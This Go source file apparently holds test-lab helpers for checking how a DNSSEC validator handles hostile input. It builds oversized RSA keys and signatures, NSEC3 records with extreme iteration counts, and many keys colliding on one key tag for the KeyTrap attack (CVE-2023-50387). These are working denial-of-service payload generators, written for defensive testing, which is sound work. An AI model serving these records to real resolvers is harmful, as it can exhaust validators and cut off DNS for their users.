package lab

import (
	"encoding/base64"
	"strings"

	"github.com/miekg/dns"
)

// Building blocks for DNSSEC answers that are hostile to a validator
// (issue 11): absurd key and signature sizes, NSEC3 iteration counts far
// above RFC 9276's advice. They are records, not zones: a test puts them
// into the answers of its own signed world with Rewrite.

// Rewrite returns a handler that answers with h and passes every answer
// through f before it is written; f may change m in place. The query is
// q, which f must not change.
func Rewrite(h dns.Handler, f func(q, m *dns.Msg)) dns.Handler {
	return dns.HandlerFunc(func(w dns.ResponseWriter, q *dns.Msg) {
		h.ServeDNS(&rewriter{ResponseWriter: w, q: q, f: f}, q)
	})
}

type rewriter struct {
	dns.ResponseWriter
	q *dns.Msg
	f func(q, m *dns.Msg)
}

func (r *rewriter) WriteMsg(m *dns.Msg) error {
	r.f(r.q, m)
	return r.ResponseWriter.WriteMsg(m)
}

// HugeRSAKey returns a zone-signing DNSKEY at owner with algorithm
// RSASHA256 and a modulus of n bytes (RFC 3110 encoding: exponent length
// 3, exponent 65537, modulus); RFC 3110 sets no upper bound, a validator
// must.
func HugeRSAKey(owner string, n int) *dns.DNSKEY {
	raw := make([]byte, 4+n)
	copy(raw, []byte{3, 1, 0, 1})
	raw[4], raw[len(raw)-1] = 0xc1, 1
	return &dns.DNSKEY{Hdr: dns.RR_Header{Name: dns.Fqdn(owner), Rrtype: dns.TypeDNSKEY, Class: dns.ClassINET, Ttl: 3600},
		Flags: 256, Protocol: 3, Algorithm: dns.RSASHA256, PublicKey: base64.StdEncoding.EncodeToString(raw)}
}

// HugeSignature returns a copy of sig whose signature is n zero bytes.
func HugeSignature(sig *dns.RRSIG, n int) *dns.RRSIG {
	c := dns.Copy(sig).(*dns.RRSIG)
	c.Signature = base64.StdEncoding.EncodeToString(make([]byte, n))
	return c
}

// NSEC3NoData returns the NSEC3 record (SHA-1, no salt) that matches name
// in zone and lists types, with the given iteration count: the NODATA
// proof of RFC 5155 §8.5 for any type not in types. Its owner hash is
// computed here, so 65,000 iterations cost one hash chain of that length.
func NSEC3NoData(zone, name string, iterations uint16, types []uint16) *dns.NSEC3 {
	hash := dns.HashName(dns.Fqdn(name), dns.SHA1, iterations, "")
	return &dns.NSEC3{Hdr: dns.RR_Header{Name: strings.ToLower(hash) + "." + dns.Fqdn(zone), Rrtype: dns.TypeNSEC3, Class: dns.ClassINET, Ttl: 300},
		Hash: dns.SHA1, Iterations: iterations, HashLength: 20, NextDomain: hash, TypeBitMap: types}
}

// CollidingRSAKeys returns n zone-signing DNSKEYs at owner, algorithm
// RSASHA256 with moduli of bits bits, that all have key tag tag (RFC 4034
// Appendix B): the KeyTrap attack (CVE-2023-50387) pairs them with as many
// RRSIGs of that tag, so that a validator that tries every key for every
// signature makes n*n verifications. The moduli are odd random numbers,
// not products of primes: no signature verifies with them, which is the
// point.
func CollidingRSAKeys(owner string, n, bits int, tag uint16) []*dns.DNSKEY {
	keys := make([]*dns.DNSKEY, 0, n)
	for i := 0; len(keys) < n; i++ {
		raw := make([]byte, 4+bits/8)
		copy(raw, []byte{3, 1, 0, 1})
		for j := 4; j < len(raw); j++ {
			raw[j] = byte(i*131 + j*7 + j*j)
		}
		raw[4] |= 0x80
		raw[len(raw)-1] |= 1
		k := &dns.DNSKEY{Hdr: dns.RR_Header{Name: dns.Fqdn(owner), Rrtype: dns.TypeDNSKEY, Class: dns.ClassINET, Ttl: 3600},
			Flags: 256, Protocol: 3, Algorithm: dns.RSASHA256}
		// The key tag is a ones'-complement-like sum of 16-bit words of
		// the RDATA (which starts with 4 bytes of flags, protocol and
		// algorithm, so raw[8:10] is word-aligned); solve for one word,
		// then try its neighbours for the carry.
		set := func(w uint16) uint16 {
			raw[8], raw[9] = byte(w>>8), byte(w)
			k.PublicKey = base64.StdEncoding.EncodeToString(raw)
			return k.KeyTag()
		}
		base := set(0)
		w := tag - base
		for _, d := range []uint16{0, 1, 0xffff, 2, 0xfffe} {
			if set(w+d) == tag {
				keys = append(keys, k)
				break
			}
		}
	}
	return keys
}
